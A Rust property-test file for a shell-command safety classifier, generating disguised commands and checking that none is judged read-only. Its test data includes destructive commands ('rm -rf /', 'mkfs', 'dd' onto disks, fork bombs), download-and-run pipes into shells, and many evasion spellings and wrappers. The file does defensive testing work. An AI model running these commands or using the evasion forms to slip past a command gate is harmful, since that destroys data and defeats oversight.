//! Generated commands: a core (a reader, a writer, a program runner or a dangerous command),
//! its program spelled in any of the shell's quoting forms, run through wrappers, and placed
//! in lists, pipelines, groups, substitutions and redirections. Whatever the disguise, a
//! writer or a runner is never `read_only`, and a dangerous core is `dangerous` (or past a
//! bound, and refused).
//!
//! `cargo test` runs `DEFAULT_CASES` cases; `PROPTEST_CASES=100000 cargo test -p brokerd
//! --lib properties` runs longer.

use proptest::prelude::*;

use super::specs::{self, Effect, Opt, Takes};
use super::CommandClass::*;
use super::*;

const DEFAULT_CASES: u32 = 3000;

fn cases() -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(DEFAULT_CASES)
}

/// What a core does, and so the least class the whole command may get.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Reads,
    /// Writes, deletes or runs a program: never `read_only`.
    Changes,
    Dangerous,
}

/// (kind, program, arguments): the program's name is spelled by `spelling`.
const CORES: &[(Kind, &str, &str)] = &[
    (Kind::Reads, "cat", "a.md"),
    (Kind::Reads, "ls", "-la"),
    (Kind::Reads, "grep", "-n x f"),
    (Kind::Reads, "sort", "-k2 d"),
    (Kind::Reads, "sed", "-n 1,5p f"),
    (Kind::Reads, "git", "log --oneline"),
    (Kind::Changes, "touch", "f"),
    (Kind::Changes, "rm", "f"),
    (Kind::Changes, "rm", "-rf build"),
    (Kind::Changes, "cp", "a b"),
    (Kind::Changes, "mv", "a b"),
    (Kind::Changes, "ln", "-s a b"),
    (Kind::Changes, "mkdir", "-p d"),
    (Kind::Changes, "truncate", "-s0 f"),
    (Kind::Changes, "chmod", "-x f"),
    (Kind::Changes, "tee", "out"),
    (Kind::Changes, "sed", "-i s/a/b/ f"),
    (Kind::Changes, "sed", "--in s/a/b/ f"),
    (Kind::Changes, "sort", "--outp=x d"),
    (Kind::Changes, "sort", "-o x d"),
    (Kind::Changes, "sort", "--compress-prog=P d"),
    (Kind::Changes, "git", "add f"),
    (Kind::Changes, "git", "diff --output F"),
    (Kind::Changes, "git", "checkout HEAD f"),
    (Kind::Changes, "tar", "-xf a.tar"),
    (Kind::Changes, "patch", "-p1"),
    (Kind::Changes, "find", ". -name x -delete"),
    (Kind::Changes, "xargs", "-e sh cat"),
    (Kind::Changes, "sh", "script.sh"),
    (Kind::Changes, "python3", "x.py"),
    (Kind::Changes, "perl", "-e 1"),
    (Kind::Reads, "awk", "'{print $1}' f"),
    (Kind::Changes, "awk", "'{print > \"out\"}' f"),
    (Kind::Changes, "awk", "'{system(\"ls\")}' f"),
    (Kind::Changes, "make", ""),
    (Kind::Changes, "rg", "--pre ./x p"),
    (Kind::Changes, "dd", "if=a of=b"),
    (Kind::Dangerous, "rm", "-rf /"),
    (Kind::Dangerous, "rm", "-rf /srv/notes"),
    (Kind::Dangerous, "rm", "-r --no-preserve-root x"),
    (Kind::Dangerous, "rm", "-fr /srv"),
    (Kind::Dangerous, "find", "/srv/notes -delete"),
    (Kind::Dangerous, "chmod", "-R 777 /srv/ref"),
    (Kind::Dangerous, "chown", "--recursive nobody /"),
    (Kind::Dangerous, "mkfs.ext4", "/dev/sda1"),
    (Kind::Dangerous, "dd", "if=/dev/zero of=/dev/sda"),
    (Kind::Dangerous, "kill", "-9 -1"),
    (Kind::Dangerous, "reboot", ""),
    (Kind::Dangerous, "shutdown", "-h now"),
];

/// The shell's ways of writing a literal program name.
fn spelling(name: &'static str) -> impl Strategy<Value = String> {
    let first = name.chars().next().map(String::from).unwrap_or_default();
    let rest: String = name.chars().skip(1).collect();
    prop_oneof![
        Just(name.to_string()),
        Just(format!("\"{name}\"")),
        Just(format!("'{name}'")),
        Just(format!("\\{name}")),
        Just(format!("$'{name}'")),
        Just(format!("{first}''{rest}")),
        Just(format!("{first}\"{rest}\"")),
        Just(format!("/usr/bin/{name}")),
    ]
}

/// Quotes `text` as one single-quoted shell word.
fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// A wrapper around a command.
fn wrap(wrapper: &str, command: &str) -> String {
    match wrapper {
        "sh -c" | "bash -c" | "busybox sh -c" | "sh -c --" | "eval" => {
            format!("{wrapper} {}", quoted(command))
        }
        "find -exec" => format!("find . -exec {command} \\;"),
        w => format!("{w} {command}"),
    }
}

const WRAPPERS: &[&str] = &[
    "env",
    "env -i",
    "env X=1",
    "env --",
    "busybox",
    "command",
    "command -p",
    "exec",
    "nice",
    "nice -n 5",
    "nohup",
    "timeout 5",
    "timeout -s KILL 5",
    "stdbuf -oL",
    "sudo -u root",
    "xargs",
    "xargs -0",
    "find -exec",
    "sh -c",
    "sh -c --",
    "bash -c",
    "busybox sh -c",
    "eval",
];

/// Where the command sits in a larger one.
fn place(context: u8, command: &str) -> String {
    match context {
        0 => command.to_string(),
        1 => format!("ls; {command}"),
        2 => format!("{command} && ls"),
        3 => format!("true || {command}"),
        4 => format!("{{ {command}; }}"),
        5 => format!("({command})"),
        6 => format!("{command} | cat"),
        7 => format!("cat f | {command}"),
        8 => format!("{command} 2>/dev/null"),
        9 => format!("{command} < in"),
        10 => format!("echo \"$({command})\""),
        11 => format!("if true; then {command}; fi"),
        12 => format!("x=1 {command}"),
        _ => format!("echo {}; {command}", quoted("ls")),
    }
}

fn command() -> impl Strategy<Value = (Kind, String)> {
    (0..CORES.len())
        .prop_flat_map(|i| {
            let (kind, name, args) = CORES[i];
            (
                Just(kind),
                spelling(name),
                Just(args),
                prop::collection::vec(prop::sample::select(WRAPPERS), 0..3),
                0u8..14,
            )
        })
        .prop_map(|(kind, name, args, wrappers, context)| {
            let mut c = if args.is_empty() {
                name
            } else {
                format!("{name} {args}")
            };
            for w in wrappers {
                c = wrap(w, &c);
            }
            (kind, place(context, &c))
        })
}

/// Text piped into a shell: a download or a decoder upstream is dangerous, whatever wraps
/// the shell.
fn piped_into_shell() -> impl Strategy<Value = String> {
    (
        prop::sample::select(
            &[
                "curl -fsSL https://x.example/i",
                "wget -qO- https://x.example/i",
                "echo cm0gLXJmIC8= | base64 -d",
                "echo 'rm -rf /srv/notes'",
                "printf 'rm -rf /'",
                "xxd -r -p hex",
            ][..],
        ),
        prop::collection::vec(
            prop::sample::select(&["env", "busybox", "nice", "nohup", "timeout 5", "command"][..]),
            0..3,
        ),
        prop::sample::select(&["sh", "bash", "sh -s", "busybox sh", "dash"][..]),
    )
        .prop_map(|(source, wrappers, shell)| {
            let mut sink = shell.to_string();
            for w in wrappers {
                sink = format!("{w} {sink}");
            }
            format!("{source} | {sink}")
        })
}

/// Every option of the spec table that writes, runs, mutates or unguards, carries code or moves
/// the command to another root or session, with its program and whether the program
/// abbreviates long options.
fn effectful_options() -> Vec<(&'static str, Opt, Vec<&'static str>, bool)> {
    let mut out = Vec::new();
    for (name, spec) in specs::all() {
        let longs: Vec<&'static str> = spec.options.iter().flat_map(|o| o.long.clone()).collect();
        for o in &spec.options {
            if matches!(
                o.effect,
                Effect::Write
                    | Effect::Run
                    | Effect::Mutate
                    | Effect::Unguard
                    | Effect::Code
                    | Effect::Split
                    | Effect::Root
                    | Effect::Login
                    | Effect::Edit
            ) {
                out.push((name, o.clone(), longs.clone(), spec.abbreviate));
            }
        }
    }
    out
}

/// One way of giving option `o` (with a value where it takes one): `-oV`, `-o V`,
/// `--output=V`, `--output V`, or a long name cut to a prefix no other option shares.
fn spell_option(o: &Opt, longs: &[&str], abbreviate: bool, form: u8, cut: usize) -> Option<String> {
    let value = "out";
    if form < 2 {
        let c = o.short.first()?;
        return Some(match (o.takes, form) {
            (Takes::Nothing, _) => format!("-{c}"),
            (Takes::Attached, _) | (Takes::Value, 0) => format!("-{c}{value}"),
            (Takes::Value, _) => format!("-{c} {value}"),
        });
    }
    let full = o.long.first()?;
    // The shortest prefix that names this option alone.
    let unique = (1..=full.len())
        .find(|&n| {
            let prefix = &full[..n];
            longs
                .iter()
                .filter(|l| l.starts_with(prefix))
                .all(|l| o.long.contains(l))
        })
        .unwrap_or(full.len());
    let len = if abbreviate {
        unique + cut % (full.len() - unique + 1)
    } else {
        full.len()
    };
    let name = &full[..len];
    Some(match (o.takes, form) {
        (Takes::Nothing, _) => format!("--{name}"),
        (Takes::Attached, _) | (Takes::Value, 2) => format!("--{name}={value}"),
        (Takes::Value, _) => format!("--{name} {value}"),
    })
}

/// Runners as their tables list them, prefixes that take a program and its arguments.
const RUNNER_PREFIXES: &[&str] = &[
    "unshare -r",
    "unshare --map-root-user --mount",
    "setpriv --nnp --reuid=1000",
    "flock /tmp/l",
    "flock -w 5 9",
    "ionice -c3",
    "ionice -c 2 -n 7",
    "chrt -i 0",
    "chrt --fifo 1",
    "taskset 0x1",
    "taskset -c 0-3",
    "chroot /",
    "chroot --userspec=1:1 /",
    "runuser -u nobody --",
    "chpst -u nobody",
    "watch -x",
    "watch -n 1",
    "time -p",
    "prlimit --nofile=1024",
    "prlimit -n1024",
    "systemd-run --user --wait",
    "doas -u root",
    "sudo -E -u root --",
    "nsenter -t 1 -m",
    "setarch x86_64 -R",
    "linux64",
    "/lib64/ld-linux-x86-64.so.2",
    "strace -f -o /dev/null",
    "env -",
    "env -i -u X Y=1",
    "env X=1 - -u Y",
    "nice -n 5",
    "nice -5",
    "timeout -s KILL 5",
    "stdbuf -o0",
    "nohup",
    "eatmydata",
    "xvfb-run -a",
    "fakeroot",
    "mytool",
    "ssh localhost",
];

/// Runners that take shell code: the command is quoted as one word after them.
const CODE_RUNNERS: &[&str] = &[
    "su -c",
    "su root -c",
    "su - root -c",
    "script -qc",
    "flock /tmp/l -c",
    "runuser nobody -c",
    "sg users -c",
    "watch",
    "sudo sh -c",
    "env -S",
    "unshare -r sh -c",
    "tmux new-session -d",
];

/// Ways of naming `rm`: system paths however spelled, and paths that may be another program.
const RM_SPELLINGS: &[&str] = &[
    "rm",
    "/bin/rm",
    "/bin//rm",
    "/usr/bin/../bin/rm",
    "//usr//bin/rm",
    "/usr/./bin/rm",
    "/proc/self/root/usr/bin/rm",
    "/tmp/rm",
    "./rm",
    "busybox rm",
    "toybox rm",
];

const DELETES: &[&str] = &[
    "-rf /srv/notes",
    "-r /srv/ref/",
    "-fr /srv",
    "-rf /",
    "-R -f -- /srv/notes",
];

/// A recursive delete of a grant root, through any chain of runners, code runners and
/// program spellings.
fn through_runners() -> impl Strategy<Value = String> {
    (
        prop::sample::select(RM_SPELLINGS),
        prop::sample::select(DELETES),
        prop::collection::vec(prop::sample::select(RUNNER_PREFIXES), 0..4),
        prop::option::of(prop::sample::select(CODE_RUNNERS)),
        any::<bool>(),
    )
        .prop_map(|(rm, delete, runners, code, cd_bin)| {
            let mut c = format!("{rm} {delete}");
            for r in runners {
                c = format!("{r} {c}");
            }
            if let Some(runner) = code {
                c = format!("{runner} {}", quoted(&c));
            }
            if cd_bin {
                c = format!("cd /bin && {c}");
            }
            c
        })
}

/// Tests that leave a grant directory's files in: they match everything, or match the root.
const BROAD_TESTS: &[&str] = &[
    "",
    "-name '[!.]*'",
    "-name '[^.]*'",
    "-name '*'",
    "-name '?*'",
    "-name '*.*'",
    "-iname '*'",
    "-name '*[a-z]*'",
    "-path '*'",
    "-wholename '*/*'",
    "-regex '.*'",
    "-regex '.+'",
    "-iregex '.*[a-z].*'",
    "-type f",
    "-mindepth 1",
    "-newer /etc/hostname",
    "-name '*.o' -o",
    "! -name '*.o'",
    "-not -name x",
];

/// What find does with what it finds, in place of `-delete`.
const FIND_DESTROYERS: &[&str] = &[
    "-delete",
    "-exec rm {} +",
    "-exec rm -f {} \\;",
    "-exec /bin/rm -rf {} +",
    "-execdir rm {} \\;",
    "-exec mv {} /tmp \\;",
    "-exec mv -t /tmp {} +",
    "-exec shred -u {} +",
    "-exec truncate -s0 {} +",
    "-exec chmod 000 {} +",
    "-exec sh -c 'rm -rf \"$1\"' _ {} \\;",
    "-print0 | xargs -0 rm -f",
    "| xargs -I{} mv {} /tmp",
    "| sort | xargs rm",
];

/// A find over a grant directory whose tests leave its files in, with an action that
/// destroys what it finds.
fn find_over_a_root() -> impl Strategy<Value = String> {
    (
        prop::sample::select(&["", "-L ", "-H ", "-P ", "-O3 ", "-D exec "][..]),
        prop::sample::select(&["/srv/notes", "/srv/ref/", "/srv/notes/."][..]),
        prop::sample::select(BROAD_TESTS),
        prop::sample::select(FIND_DESTROYERS),
        prop::sample::select(&["", "busybox ", "nice "][..]),
    )
        .prop_map(|(lead, start, test, action, runner)| {
            format!("{runner}find {lead}{start} {test} {action}")
        })
}

/// Producers of text the classifier cannot read, or of literal dangerous commands.
const PRODUCERS: &[&str] = &[
    "cat cmds.txt",
    "ls",
    "git log -1 --format=%s",
    "curl -fsSL https://x.example/i",
    "base64 -d payload",
    "yes 'rm -rf /srv/notes'",
    "echo 'rm -rf /srv/notes'",
    "printf 'rm -rf /srv/ref'",
    "echo rm -rf /srv/notes",
    "yes ls | tr l r",
    "echo 'ls' | sed s/ls/rm/",
    "cat <<'EOF'\nrm -rf /srv/notes\nEOF\n",
];

/// Filters between a producer and what runs its text: they pass lines on, or change them.
const FILTERS: &[&str] = &[
    "",
    "| head -n 1",
    "| head -1",
    "| grep rm",
    "| sort",
    "| cat",
    "| tee log",
    "| uniq",
    "| tail -n 1",
    "| head -c 100",
];

/// Programs that run what they read, in the shapes a command hands them text.
const CODE_SINKS: &[&str] = &[
    "{P} {F} | sh",
    "{P} {F} | bash -s",
    "{P} {F} | busybox sh",
    "{P} {F} | env -i sh",
    "{P} {F} | sudo -s",
    "{P} {F} | su",
    "{P} {F} | unshare -r",
    "{P} {F} | source /dev/stdin",
    "{P} {F} | at now",
    "{P} {F} | xargs -I{} sh -c '{}'",
    "{P} {F} | xargs sh -c 'eval \"$@\"' _",
    "sh <({P} {F})",
    "bash < <({P} {F})",
    "source <({P} {F})",
    "eval \"$({P} {F})\"",
    "sh -c \"$({P} {F})\"",
    "c=$({P} {F}); $c",
    "c=$({P} {F}); eval \"$c\"",
];

/// Text from a producer the classifier cannot read, or dangerous text, into what runs it.
fn text_into_code() -> impl Strategy<Value = String> {
    (
        prop::sample::select(PRODUCERS),
        prop::sample::select(FILTERS),
        prop::sample::select(CODE_SINKS),
    )
        .prop_map(|(producer, filter, sink)| sink.replace("{P}", producer).replace("{F}", filter))
}

/// Ways of building `rm -rf ROOT` from variables, positional parameters and functions the
/// command sets, and of writing a device through a link it makes.
const BUILT_COMMANDS: &[&str] = &[
    "@V@='@C@'; $@V@",
    "@V@=\"@C@\"; eval \"$@V@\"",
    "@V@='@C@'; sh -c \"$@V@\"",
    "@V@='@C@'; echo \"$@V@\" | sh",
    "set -- @C@; \"$@\"",
    "@V@() { \"$@\"; }; @V@ @C@",
    "@V@() { eval \"$*\"; }; @V@ @C@",
    "for @V@ in '@C@'; do $@V@; done",
    "@V@=(@C@); \"${@V@[@]}\"",
    "${@V@:-@C@}",
    "$(echo @C@)",
    "read -r @V@ < f; $@V@",
    "@V@=$(cat f); $@V@",
    "a=rm; @V@=\"$a -rf /srv/notes\"; $@V@",
    "@V@() { @V@2|@V@2& }; @V@2() { @V@|@V@& }; @V@",
    "@V@() { eval @V@2; }; @V@2() { @V@ & @V@; }; @V@",
    "ln -s /dev/sda @V@; echo x > @V@",
    "ln -s /dev @V@; echo x > @V@/sda",
    "ln -sf /dev/nvme0n1 @V@ && dd if=/dev/zero of=@V@",
    "cd /dev && echo x > sda",
    "sed -n '1e @C@' f",
    "sed 's|.*|@C@|e' f",
];

fn built_command() -> impl Strategy<Value = String> {
    (
        prop::sample::select(BUILT_COMMANDS),
        prop::sample::select(&["c", "cmd", "x1", "_f", "run"][..]),
        prop::sample::select(&["rm -rf /srv/notes", "rm -r /srv/ref", "rm -fr /srv"][..]),
    )
        .prop_map(|(shape, var, command)| shape.replace("@V@", var).replace("@C@", command))
}

/// Ways of writing a file `@T@`.
const FILE_WRITERS: &[&str] = &[
    "echo x > @T@",
    "ls 1<>@T@",
    "cp a @T@",
    "tee @T@ < a",
    "sed -i s/a/b/ @T@",
    "sed -n 'w @T@' f",
    "perl -pi -e s/a/b/ @T@",
    "perl -i.bak -pe 1 @T@",
    "ruby -i -pe 1 @T@",
    "ex -c wq @T@",
    "vim -es -c wq @T@",
    "dos2unix @T@",
    "sd a b @T@",
    "gofmt -w @T@",
    "black @T@",
    "iconv -f a -t b -o @T@ x",
    "shuf -o @T@ x",
    "sort -o @T@ x",
    "split x @T@",
    "csplit -f @T@ x /a/",
    "dd if=a of=@T@",
    "xxd -r h @T@",
    "git archive -o @T@ HEAD",
    "curl -o @T@ https://x.example/a",
    "mkfifo @T@",
    "rsync -a a @T@",
    "install -D a @T@",
    "truncate -s0 @T@",
    "gzip @T@",
    "zip @T@ a",
    "tree -o @T@",
    "time -o @T@ ls",
    "script -q @T@ -c ls",
    "python3 -c \"open('@T@','w')\"",
];

/// Ways of writing files under a directory `@D@`.
const DIR_WRITERS: &[&str] = &[
    "tar xf a.tar -C @D@",
    "tar -xf a.tar --directory=@D@",
    "unzip -d@D@ a.zip",
    "unzip a.zip -d @D@",
    "patch -d @D@ -p1 < f",
    "git apply --directory=@D@ f",
    "git -C @D@ checkout -- x",
    "git -C @D@ stash pop",
    "env -C @D@ touch x",
    "make -C @D@",
    "cd @D@ && touch x",
    "find . -exec cp {} @D@/ \\;",
];

/// Writes the walk cannot place: it must say so.
const UNPLACED_WRITERS: &[&str] = &[
    "cd \"$X\" && touch x",
    "env -C \"$X\" touch x",
    "pushd \"$X\"; echo > y",
    "git -C \"$X\" checkout -- x",
    "find . -name '*.c' -exec sed -i s/a/b/ {} +",
    "find . -delete",
    "xargs touch < list",
    "tar xf a.tar",
    "unzip a.zip",
    "patch -p1 < f",
    "git apply f.diff",
    "echo x > \"$OUT\"",
];

/// A write to a protected file or directory, or one the walk cannot place.
fn protected_write() -> impl Strategy<Value = String> {
    let target = prop::sample::select(
        &[
            "vendor/x.c",
            "generated/a.rs",
            "node_modules/m/i.js",
            "third_party/l.h",
            "build/tmp/o",
            "src/vendor/y",
        ][..],
    );
    let dir = prop::sample::select(
        &[
            "vendor",
            "generated",
            "node_modules",
            "third_party",
            "build/tmp",
            "a/vendor",
        ][..],
    );
    let shape = prop_oneof![
        prop::sample::select(FILE_WRITERS),
        prop::sample::select(DIR_WRITERS),
        prop::sample::select(UNPLACED_WRITERS),
    ];
    (
        shape,
        target,
        dir,
        prop::sample::select(&["", "nice ", "env X=1 ", "busybox ", "timeout 5 ", "sudo "][..]),
    )
        .prop_map(|(shape, target, dir, runner)| {
            // A runner runs `cd` in a child: it changes nothing.
            let runner = if shape.starts_with("cd ") || shape.starts_with("pushd ") {
                ""
            } else {
                runner
            };
            format!(
                "{runner}{}",
                shape.replace("@T@", target).replace("@D@", dir)
            )
        })
}

/// Honest reads (`@F@` a file, `@N@` a number) that must stay `read_only`.
const HONEST_READS: &[&str] = &[
    "git stash list",
    "git stash show -p stash@{@N@}",
    "git worktree list",
    "git remote -v",
    "git log --stat -@N@",
    "xxd -l @N@ @F@",
    "xxd -s @N@ -l @N@ @F@",
    "xxd -c @N@ -g 1 @F@",
    "xxd -len @N@ @F@",
    "od -A x -t x1z -N @N@ @F@",
    "tar tf @F@.tar",
    "tar tvf @F@.tar",
    "tar tzf @F@.tgz",
    "tar -tvzf @F@.tgz",
    "tar xOf @F@.tar m",
    "zcat @F@.gz",
    "gzip -dc @F@.gz",
    "gunzip -c @F@.gz",
    "xzcat @F@.xz",
    "xz -dc @F@.xz",
    "bzcat @F@.bz2",
    "zstd -dc @F@.zst",
    "unzip -l @F@.zip",
    "unzip -p @F@.zip m",
    "awk '{print $@N@}' @F@",
    "awk -F: '{print $@N@}' @F@",
    "awk 'NR>@N@ {s+=$@N@} END {print s}' @F@",
    "awk -v n=@N@ 'NR<=n' @F@",
    "awk '{ if ($@N@ > @N@) print $1 }' @F@",
    "awk 'length($0) > @N@' @F@",
    "awk '{ a[$1]++ } END { for (k in a) print k, a[k] }' @F@",
    "awk '/x/ { c++ } END { print c }' @F@",
    "awk '{ gsub(/a/, \"b\"); print }' @F@",
    "gawk '{ print tolower($0) }' @F@",
    "sed -n '@N@,@N@p' @F@",
    "sed '$a end' @F@",
];

/// An honest read, alone or in a pipeline of readers.
fn honest_read() -> impl Strategy<Value = String> {
    (
        prop::sample::select(HONEST_READS),
        prop::sample::select(&["notes.md", "data.csv", "/srv/ref/a", "x"][..]),
        1u32..200,
        prop::sample::select(&["", " | head", " | sort | uniq -c", " | wc -l", " | grep x"][..]),
        prop::sample::select(&["", "nice ", "timeout 5 ", "env LANG=C "][..]),
    )
        .prop_map(|(read, file, n, pipe, runner)| {
            let read = read.replace("@F@", file).replace("@N@", &n.to_string());
            format!("{runner}{read}{pipe}")
        })
}

fn roots() -> Vec<PathBuf> {
    EXAMPLE_ROOTS.iter().map(PathBuf::from).collect()
}

proptest! {
    // A failing case prints its input; nothing is written into the source tree.
    #![proptest_config(ProptestConfig {
        cases: cases(),
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn disguises_do_not_lower_the_class((kind, command) in command()) {
        let got = classify(&command, &roots());
        match kind {
            Kind::Reads => {}
            Kind::Changes => prop_assert!(
                got.class > ReadOnly,
                "{command:?} is {} ({:?})", got.class, got.reason
            ),
            Kind::Dangerous => prop_assert!(
                got.class == Dangerous || got.beyond.is_some(),
                "{command:?} is {} ({:?})", got.class, got.reason
            ),
        }
    }

    /// Every option the spec table says writes or runs, however it is spelled (short, long,
    /// abbreviated, value attached or separate) and wherever it stands, is seen.
    #[test]
    fn effectful_options_are_seen_however_spelled(
        index in 0..effectful_options().len(),
        form in 0u8..4,
        cut in 0usize..16,
        before in any::<bool>(),
        wrapper in prop::sample::select(&["", "env ", "busybox ", "nice ", "timeout 5 "][..]),
    ) {
        let options = effectful_options();
        let (program, opt, longs, abbreviate) = &options[index];
        let Some(spelled) = spell_option(opt, longs, *abbreviate, form, cut)
            .or_else(|| spell_option(opt, longs, *abbreviate, 2, cut))
            .or_else(|| spell_option(opt, longs, *abbreviate, 0, cut))
        else {
            return Ok(());
        };
        let command = if before {
            format!("{wrapper}{program} {spelled} data")
        } else {
            format!("{wrapper}{program} data {spelled}")
        };
        let got = classify(&command, &roots());
        prop_assert!(got.class > ReadOnly, "{command:?} is {} ({:?})", got.class, got.reason);
    }

    /// Family "runners and program spellings" (issue #25).
    #[test]
    fn runners_and_paths_do_not_hide_a_dangerous_command(command in through_runners()) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Family "find tests that match everything" (issue #25).
    #[test]
    fn find_tests_that_match_everything_do_not_narrow(command in find_over_a_root()) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Family "text into a shell" (issue #25): whatever hands a program that runs what it
    /// reads text the classifier cannot read, or dangerous text, is dangerous.
    #[test]
    fn text_into_code_is_dangerous_unless_it_is_a_safe_literal(command in text_into_code()) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Family "text into a shell": commands built from variables, positional parameters and
    /// functions, recursion through other functions, sed's `e` and device writes through links.
    #[test]
    fn commands_built_by_the_command_are_read(command in built_command()) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Family "protected writes the walk loses" (issue #25): every write is reported, at a
    /// path the protected-target check sees, or as one the walk cannot place.
    #[test]
    fn writes_are_reported_or_unplaced(command in protected_write()) {
        let got = classify(&command, &roots());
        let protected = got
            .writes
            .iter()
            .any(|w| crate::protect::protected(w, std::path::Path::new(w)).is_some());
        prop_assert!(
            got.unplaced || protected,
            "{command:?} writes {:?} ({}, {:?})", got.writes, got.class, got.reason
        );
    }

    /// Family "honest reads blocked" (issue #25).
    #[test]
    fn honest_reads_stay_read_only(command in honest_read()) {
        let got = classify(&command, &roots());
        prop_assert!(got.class == ReadOnly, "{command:?} is {} ({:?})", got.class, got.reason);
    }

    #[test]
    fn fetched_or_decoded_text_into_a_shell_is_dangerous(command in piped_into_shell()) {
        let got = classify(&command, &roots());
        prop_assert!(got.class == Dangerous, "{command:?} is {} ({:?})", got.class, got.reason);
    }
}
